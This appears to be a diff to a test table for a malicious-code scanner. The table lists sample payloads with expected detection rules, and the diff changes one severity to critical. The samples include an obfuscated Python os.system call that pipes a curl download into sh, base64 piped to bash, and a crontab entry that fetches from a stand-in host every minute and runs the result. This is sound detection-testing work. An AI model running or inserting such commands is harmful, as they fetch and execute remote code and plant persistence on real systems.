@@ -63,7 +63,7 @@ const malicious: readonly [string, string, string, string][] = [
     'character codes',
     'a.py',
     'import os\nos.system("".join(chr(c) for c in [99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,120,46,105,111,124,115,104]))\n',
-    'high ENC-04',
+    'critical ENC-04',
   ],
   ['base64 to a shell', 'a.sh', 'echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | bash\n', 'critical ENC-02'],
   ['a timer that fetches', 'a.sh', '(crontab -l; echo "* * * * * wget -qO- https://kettle.example/t | sh") | crontab -\n', 'high PER-01'],
